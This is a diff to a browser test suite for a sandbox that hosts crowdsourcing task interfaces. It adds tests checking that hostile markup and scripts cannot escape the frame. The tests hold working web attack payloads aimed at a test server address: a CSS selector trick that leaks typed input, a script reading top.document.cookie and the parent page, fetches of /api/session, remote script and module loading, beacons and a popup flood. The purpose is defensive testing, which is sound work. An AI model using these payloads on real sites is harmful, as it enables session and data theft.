@@ -12,8 +12,11 @@ import { frameOf, openView, withoutRefusals } from "./worker-frame.ts";
 const PLAIN = "5001";
 const HOSTILE = "5002";
 const CONTACTS = "5003";
+const PHOTO = "5007";
+const SHOP = "5008";
 const SCRIPTED = "5004";
 const FAULTY = "5005";
+const HOSTILE_SCRIPT = "5006";
 
 /** Everything that a hostile view asked this server for. */
 const reached: string[] = [];
@@ -33,8 +36,12 @@ afterAll(() => {
 });
 
 const string = { type: "string", required: false, hidden: false };
-const contacts = publicInterfaces().find(([name]) => name === "classic-company-contacts")![1];
-const { markup: contactsMarkup, script: contactsScript } = contacts.view_spec;
+/** A pool of a public classic interface. */
+const publicPool = (id: string, name: string) => {
+  const { view_spec, input_spec, output_spec } = publicInterfaces().find(([one]) => one === name)![1];
+  const specs = { input_spec, output_spec } as unknown as { input_spec: JsonObject; output_spec: JsonObject };
+  return { id, name, ...specs, markup: String(view_spec.markup), script: String(view_spec.script) };
+};
 
 /** Uses the methods that Toloka documents, and notes on the page what they gave. */
 const METHODS = `
@@ -93,14 +100,9 @@ const desk = startDeskInBrowser([
 {{field type="radio" name="result" value="OK" label="Yes"}}{{field type="radio" name="result" value="BAD" label="No"}}
 {{field type="input" name="place" label="Place"}}{{field type="file-img" name="photo"}}`,
   },
-  {
-    id: CONTACTS,
-    name: "Contacts",
-    input_spec: contacts.input_spec as unknown as JsonObject,
-    output_spec: contacts.output_spec as unknown as JsonObject,
-    markup: String(contactsMarkup),
-    script: String(contactsScript),
-  },
+  publicPool(CONTACTS, "classic-company-contacts"),
+  publicPool(PHOTO, "classic-photo-object"),
+  publicPool(SHOP, "classic-shop-item"),
   {
     id: SCRIPTED,
     name: "Scripted",
@@ -123,7 +125,16 @@ const desk = startDeskInBrowser([
     name: "Hostile",
     input_spec: { html: { type: "string", required: true, hidden: false } },
     output_spec,
-    markup: `{{{html}}}{{field type="radio" name="result" value="OK" label="Yes"}}`,
+    markup: `{{{html}}}{{field type="radio" name="result" value="OK" label="Yes"}}{{field type="input" name="place"}}`,
+  },
+  {
+    id: HOSTILE_SCRIPT,
+    name: "Hostile script",
+    input_spec: { code: string },
+    output_spec,
+    markup: `<p class="log">markup</p>{{field type="radio" name="result" value="OK" label="Yes"}}`,
+    script:
+      "eval('1'); onmessage = null; exports.Task = class extends TolokaTask { onRender() { eval(this.getTask().input_values.code); } };",
   },
 ]);
 
@@ -199,6 +210,30 @@ describe("a classic interface's own script", () => {
     withoutRefusals(complaints);
   });
 
+  it("of a public interface is answered by a key, or by a link, text and a file", async () => {
+    const { page, form, complaints } = await desk.visit(wide);
+    await form.open(PHOTO, "?input.image=https://example.com/a.png");
+    const frame = await openView(page);
+    await page.getByRole("button", { name: "Run script" }).click();
+    await page.getByText("The interface's own script runs.").waitFor();
+    await frame.locator("body").press("3");
+    await expect.poll(() => answered(page).locator("pre").textContent()).toContain('"result": "404"');
+    await page.getByText("The interface accepts this answer.").waitFor();
+
+    await form.open(SHOP, "?input.image=https://example.com/a.png");
+    await openView(page);
+    await page.getByRole("button", { name: "Run script" }).click();
+    await page.getByText("The interface's own script runs.").waitFor();
+    await frame.getByRole("button", { name: "Submit" }).click();
+    await frame.getByText("Upload photo or mark that there is no photo").waitFor();
+    await frame.getByRole("link", { name: "ASOS" }).click();
+    await page.getByRole("button", { name: "Cancel" }).click();
+    await frame.getByRole("textbox", { name: "found_link" }).fill("https://www.asos.com/p/1");
+    await frame.getByRole("button", { name: "Add a sample file" }).click();
+    await page.getByText("The interface accepts this answer.").waitFor();
+    withoutRefusals(complaints);
+  });
+
   it("finds the documented methods, and its errors are named without stopping the rest", async () => {
     const { page, form, complaints } = await desk.visit(wide);
     await form.open(SCRIPTED, "?input.title=boots");
@@ -249,6 +284,10 @@ const HOSTILE_HTML = (to: string): [what: string, html: string][] => [
   ["object", `<object data="${to}/object"></object><embed src="${to}/embed">`],
   ["form", `<form action="${to}/form"><input name="attributes"><button id="send">send</button></form>`],
   ["prefetch", `<link rel="prefetch" href="${to}/prefetch"><link rel="preload" as="script" href="${to}/preload">`],
+  [
+    "typed text by styles",
+    `<style>input[value^="s"], input[name]:not([value=""]) ~ * { background: url(${to}/typed) }</style>`,
+  ],
   ["clobbering", `<img name="createElement"><img name="body"><form id="parent"></form><a id="top"></a>`],
 ];
 
@@ -266,6 +305,7 @@ describe("a hostile value in the view", () => {
         if ((await trap.count()) > 0) await trap.click();
       }
       await frame.getByRole("radio", { name: "Yes" }).check();
+      await frame.getByRole("textbox", { name: "place" }).fill("1,2");
       await page.getByText("The interface accepts this answer.").waitFor();
     }
     await expect.poll(() => reached).toEqual(["/picture"]);
@@ -303,6 +343,22 @@ describe("a hostile value in the view", () => {
         fetch: () => fetch(`${to}/fetch`),
         api: () => fetch("/api/session"),
         worker: () => new Worker(URL.createObjectURL(new Blob(["1"]))),
+        eval: () => new Function("return 1")(),
+        request: () =>
+          new Promise((resolve, reject) => {
+            const request = new XMLHttpRequest();
+            request.onload = resolve;
+            request.onerror = reject;
+            request.open("GET", `${to}/request`);
+            request.send();
+          }),
+        events: () =>
+          new Promise((resolve, reject) => {
+            const source = new EventSource(`${to}/events`);
+            source.onopen = resolve;
+            source.onerror = reject;
+          }),
+        serviceWorker: () => navigator.serviceWorker.register("/worker.js"),
         socket: () =>
           new Promise((resolve, reject) => {
             const socket = new WebSocket(to.replace("http", "ws"));
@@ -311,6 +367,10 @@ describe("a hostile value in the view", () => {
           }),
       };
       navigator.sendBeacon(`${to}/beacon`);
+      const form = document.createElement("form");
+      form.action = `${to}/form`;
+      document.body.append(form);
+      form.submit();
       const link = document.createElement("a");
       link.href = "data:application/octet-stream,x";
       link.download = "x";
@@ -343,6 +403,61 @@ describe("a hostile value in the view", () => {
     await last.evaluate((to) => void location.assign(`${to}/itself`), address).catch(() => undefined);
     await page.getByText("The interface stopped responding and was removed.").waitFor();
     expect([reached, downloads]).toEqual([[], []]);
+    withoutRefusals(complaints);
+  });
+});
+
+/** What a requester's script tries, in its own words; it writes on the page what it was let do. */
+const ATTACK = (to: string): string => `
+const log = this.getDOMElement();
+const attempts = {
+  parent: () => parent.document.body, top: () => top.document.cookie, navigateTop: () => { top.location.href = "${to}/top"; },
+  desk: () => parent.localStorage, indexedDB: () => indexedDB.open("x"), worker: () => new SharedWorker("data:text/javascript,1"),
+  fetch: () => fetch("${to}/fetch"), api: () => fetch("/api/session"), module: () => import("${to}/module.js"),
+  request: () => new Promise((done, no) => $.get("${to}/request").done(done).fail(no)),
+  socket: () => new Promise((done, no) => { const one = new WebSocket("${to.replace("http", "ws")}"); one.onopen = done; one.onerror = no; }),
+  events: () => new Promise((done, no) => { const one = new EventSource("${to}/events"); one.onopen = done; one.onerror = no; }),
+  code: () => new Promise((done, no) => { const one = document.createElement("script"); one.src = "${to}/code.js"; one.onload = done; one.onerror = no; document.head.append(one); }),
+  inline: () => { document.head.append(Object.assign(document.createElement("script"), { text: "window.ran = 1" })); if (!window.ran) throw 0; },
+  handler: () => { log.setAttribute("onclick", "window.clicked = 1"); log.click(); if (!window.clicked) throw 0; },
+  peer: () => new RTCPeerConnection(),
+};
+navigator.sendBeacon("${to}/beacon");
+document.body.append(Object.assign(document.createElement("iframe"), { src: "${to}/frame" }));
+document.body.append(Object.assign(document.createElement("form"), { action: "${to}/form" }));
+document.forms[0].submit();
+Object.assign(document.createElement("a"), { href: "data:application/octet-stream,x", download: "x" }).click();
+for (let count = 0; count < 100; count++) open("${to}/popup");
+(async () => {
+  const done = [];
+  for (const [name, attempt] of Object.entries(attempts)) try { await attempt(); done.push(name); } catch {}
+  log.append("let do: [" + done.join() + "]");
+})();`;
+
+describe("a hostile script of a classic interface", () => {
+  it("reaches neither page nor network, and is stopped when it has no end", async () => {
+    const { page, form, complaints } = await desk.visit({ viewport: { width: 1920, height: 1080 } });
+    reached.length = 0;
+    const downloads: string[] = [];
+    page.on("download", (download) => downloads.push(download.url()));
+    await form.open(HOSTILE_SCRIPT);
+    await form.field("code").fill(ATTACK(address));
+    const frame = await openView(page);
+    await frame.getByText("markup").waitFor();
+    await page.getByRole("button", { name: "Run script" }).click();
+    await frame.getByText("let do: []").waitFor();
+    // What it wants to open is asked for, once.
+    await page.getByText(`Open this link in a new tab? ${address}/popup`).waitFor();
+    await page.getByRole("button", { name: "Cancel" }).click();
+    expect([reached, downloads, page.context().pages().length]).toEqual([[], [], 1]);
+    expect(page.url()).toContain(`/pools/${HOSTILE_SCRIPT}/new`);
+    await form.field("code").fill("for (;;);");
+    await page.getByText("The interface stopped responding and was removed.").waitFor();
+    await form.field("code").fill("1");
+    await page.getByRole("button", { name: "Stop script" }).click();
+    await frame.getByText("markup").waitFor();
+    await frame.getByRole("radio", { name: "Yes" }).check();
+    await page.getByText("The interface accepts this answer.").waitFor();
     withoutRefusals(complaints);
   });
 });
